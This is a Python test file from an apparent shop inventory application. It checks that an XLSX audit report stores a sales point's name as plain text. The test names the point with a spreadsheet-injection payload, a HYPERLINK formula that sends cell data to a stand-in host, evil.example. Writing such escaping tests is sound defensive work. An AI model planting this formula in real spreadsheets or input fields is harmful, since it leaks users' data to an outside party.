"""The department's XLSX report writes every name as text: a point named like a formula stays a name."""
from shop.accounts.models import Role
from shop.audit.reports.build import build_report
from shop.audit.reports.xlsx import build_xlsx
from shop.core.clock import today
from shop.extensions import db
from shop.inventory.services import sell_at_counter
from tests.core.test_export_escaping import assert_no_formula
from tests.factories import make_point, make_product, make_stock, make_user

POINT_NAME = '=HYPERLINK("http://evil.example/steal?d="&B2,"Xem chi tiết")'
PRODUCT_NAME = "+Trà xanh Tân Cương"


def test_a_point_named_like_a_formula_is_text_in_the_xlsx_report(app_ctx):
    manager = make_user(Role.POINT_MANAGER)
    point = make_point("DN-XL-01", name=POINT_NAME)
    product = make_product(name=PRODUCT_NAME, price_vnd=120_000)
    make_stock(point, product, manager, quantity=10)
    sell_at_counter(point, [(product, 3)], payment_method="cash", actor=manager)
    db.session.flush()
    report = build_report(today(), today())
    assert any(POINT_NAME in row for table in report.tables for row in table.rows), "the report names the point"
    assert_no_formula(build_xlsx(report), [POINT_NAME])
